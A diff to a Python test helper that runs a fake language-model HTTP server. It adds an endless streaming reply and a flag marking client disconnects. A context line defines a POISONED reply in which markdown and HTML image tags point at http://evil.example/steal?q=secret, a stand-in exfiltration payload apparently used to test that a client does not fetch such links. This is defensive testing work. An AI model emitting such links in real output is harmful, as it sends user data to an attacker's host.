@@ -59,7 +59,14 @@ class Raw:
     content_type: str = "text/event-stream"
 
 
-Reply = Say | Refuse | Silence | Cut | Raw
+@dataclass(frozen=True)
+class Endless:
+    """`piece` again and again, until the client goes (`server.left` is then set) or the test ends."""
+
+    piece: str
+
+
+Reply = Say | Refuse | Silence | Cut | Raw | Endless
 
 POISONED = Say(
     'Rubamor keeps for 6 hours [1]. ![chart](http://evil.example/steal?q=secret) <img src="http://evil.example/a.png" '
@@ -81,6 +88,7 @@ class LlmServer:
         self.replies = list(replies) or [Say("It is so [1].")]
         self.requests: list[Received] = []
         self.stopped = threading.Event()
+        self.left = threading.Event()
         self._lock = threading.Lock()
         self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
         self._server.daemon_threads = True
@@ -123,7 +131,7 @@ class LlmServer:
                         reply = Refuse(404, f"Unknown path {self.path}")
                     self.answer(reply, body)
                 except (BrokenPipeError, ConnectionResetError):
-                    pass  # the client went away, as the test wants it to
+                    server.left.set()  # the client went away, as the test wants it to
 
             def answer(self, reply: Reply, body: dict[str, Any]) -> None:
                 if isinstance(reply, Refuse):
@@ -143,8 +151,8 @@ class LlmServer:
                 self.end_headers()
                 self.wfile.write(body)
 
-            def completion(self, reply: Say | Silence | Cut) -> None:
-                if isinstance(reply, Silence):
+            def completion(self, reply: Say | Silence | Cut | Endless) -> None:
+                if isinstance(reply, Silence | Endless):
                     server.stopped.wait()
                     return
                 if isinstance(reply, Cut):
@@ -156,10 +164,14 @@ class LlmServer:
                 whole = {"id": "c", "object": "chat.completion", "created": 0, "model": "test", "choices": [choice]}
                 self.whole(200, json.dumps(whole | {"usage": USAGE}).encode(), "application/json", {})
 
-            def stream(self, reply: Say | Silence | Cut) -> None:
+            def stream(self, reply: Say | Silence | Cut | Endless) -> None:
                 self.send_response(200)
                 self.send_header("Content-Type", "text/event-stream")
                 self.end_headers()  # no length: the body ends with the connection
+                if isinstance(reply, Endless):
+                    while not server.stopped.wait(0.002):
+                        self.event({"index": 0, "delta": {"content": reply.piece}, "finish_reason": None})
+                    return
                 pieces = reply.pieces if isinstance(reply, Say) and reply.pieces else five_by_five(reply.text)
                 for piece in pieces:
                     self.event({"index": 0, "delta": {"content": piece}, "finish_reason": None})
